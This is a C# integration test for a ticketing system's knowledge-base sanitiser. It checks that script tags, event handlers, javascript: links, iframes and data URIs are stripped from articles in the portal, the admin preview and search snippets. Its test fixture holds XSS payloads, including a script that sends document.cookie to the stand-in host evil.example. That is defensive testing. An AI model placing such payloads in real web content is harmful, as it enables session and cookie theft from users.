using Ticketing.Api.Tests.Identity;

namespace Ticketing.Api.Tests.KnowledgeBase;

public sealed class SanitisingApiTests(IdentityApiFactory api) : IClassFixture<IdentityApiFactory>
{
    private const string Hostile = """
        # Fix the scanner

        <script>fetch('https://evil.example/?c=' + document.cookie)</script>
        <img src="https://cdn.example/x.png" onerror="alert('img')">
        <p onmouseover="alert('hover')">Hover me</p>

        [Open the guide](javascript:alert('link')) and <a href="jAvAsCrIpT:alert('raw')">this</a>.

        <iframe src="https://evil.example/frame"></iframe>

        ![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
        """;

    [Fact]
    public async Task Script_event_handlers_and_javascript_links_never_reach_the_portal_or_the_preview()
    {
        var admin = await api.SignInAdminAsync();
        var (_, contact, _) = await api.CustomerWithContactAsync(admin);
        var section = await admin.CreateSectionAsync(await admin.CreateCategoryAsync("Scanners"), "Scanners");
        var id = await admin.CreateArticleAsync(section, "Scanner", Hostile, keywords: ["scanner"]);

        var portal = (await contact.GetAsync<PortalArticleBody>($"/api/portal/kb/articles/{id}")).BodyHtml;
        var preview = (await admin.GetAsync<ArticleBody>($"/api/kb/articles/{id}")).BodyHtml;
        var snippet = (await contact.GetAsync<PageBody<SearchHitBody>>("/api/portal/kb/search?q=scanner")).Items[0].Snippet;

        foreach (var html in new[] { portal, preview })
        {
            html.ShouldContain("<h1");
            html.ShouldContain("Hover me");
            html.ShouldContain("<img src=\"https://cdn.example/x.png\">");
            foreach (var forbidden in new[] { "<script", "onerror", "onmouseover", "javascript:", "<iframe", "data:", "alert(" })
            {
                html.ShouldNotContain(forbidden, Case.Insensitive);
            }
        }

        snippet.ShouldNotContain("<script", Case.Insensitive);
        snippet.ShouldNotContain("document.cookie");
        // The text the search indexes is stored but never answered; only the database shows it.
        (await api.ScalarAsync<string>("select body_text from kb_articles where id = $1", id)).ShouldNotContain("evil.example");
    }
}
